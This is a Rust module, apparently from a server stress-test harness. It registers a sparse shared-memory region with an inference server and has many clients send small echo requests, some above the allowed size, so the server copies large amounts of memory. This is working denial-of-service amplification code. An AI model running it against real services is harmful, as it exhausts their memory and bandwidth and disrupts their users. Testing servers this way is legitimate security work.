//! Requests with tensors in shared memory: a body of a few bytes makes the server copy a whole region.

use std::{
    fs::{self, File},
    io,
    path::PathBuf,
    time::Duration,
};

use tokio::{task::JoinSet, time::timeout};

use crate::{
    http1::{Http, HttpResponse, infer_path},
    models::ECHO,
    rows::{Scale, Tally},
    server::Target,
};

/// A shared memory region that reads as zeros and takes no memory itself. Removed on drop.
pub struct Region {
    path: PathBuf,
    /// The region's name; its key is this name with a leading slash.
    name: String,
}

impl Region {
    /// Creates a region and registers it with the server.
    ///
    /// # Errors
    /// When the system or the server refuses to create or register the region.
    pub async fn register(target: Target, bytes: usize) -> io::Result<Self> {
        let name = format!("attack-{:016x}", fastrand::u64(..));
        let path = PathBuf::from("/dev/shm").join(&name);
        File::create_new(&path)?.set_len(bytes as u64)?;
        let region = Self { path, name };
        let body = format!(r#"{{"key":"/{}","offset":0,"byte_size":{bytes}}}"#, region.name);
        let mut http = Http::connect(target.http).await?;
        let register = format!("/v2/systemsharedmemory/region/{}/register", region.name);
        http.post(&register, "", body.as_bytes()).await?;
        let answer = http.receive().await?;
        match answer.status {
            200 => Ok(region),
            status => Err(io::Error::other(format!("{status}: {}", answer.text()))),
        }
    }

    /// Requests an echo of `bytes` of the region in the response body.
    ///
    /// # Errors
    /// When the connection is closed early.
    pub async fn echo(&self, target: Target, bytes: usize) -> io::Result<HttpResponse> {
        let body = format!(
            r#"{{"inputs":[{{"name":"x","datatype":"UINT8","shape":[{bytes}],"parameters":{{"shared_memory_region":"{}","shared_memory_byte_size":{bytes}}}}}],"parameters":{{"binary_data_output":true}}}}"#,
            self.name
        );
        let mut http = Http::connect(target.http).await?;
        http.post(&infer_path(ECHO), "", body.as_bytes()).await?;
        http.receive().await
    }
}

impl Drop for Region {
    fn drop(&mut self) {
        let _ = fs::remove_file(&self.path);
    }
}

/// Has clients request as much of a region as is allowed, and some of them more.
pub async fn shared_memory(target: Target, scale: Scale, tally: Tally) {
    let region = match Region::register(target, 2 * scale.budget).await {
        Ok(region) => std::rc::Rc::new(region),
        Err(error) => return tally.add(error),
    };
    let mut clients = JoinSet::new();
    for client in 0..scale.readers {
        let (region, tally) = (region.clone(), tally.clone());
        let bytes = match client % 4 {
            3 => 2 * scale.budget,
            _ => scale.request,
        };
        clients.spawn_local(async move {
            match timeout(Duration::from_secs(60), region.echo(target, bytes)).await {
                Ok(Ok(answer)) => tally.add(answer.status),
                Ok(Err(_)) => tally.add("closed"),
                Err(_) => tally.add("no response"),
            }
        });
    }
    while clients.join_next().await.is_some() {}
}
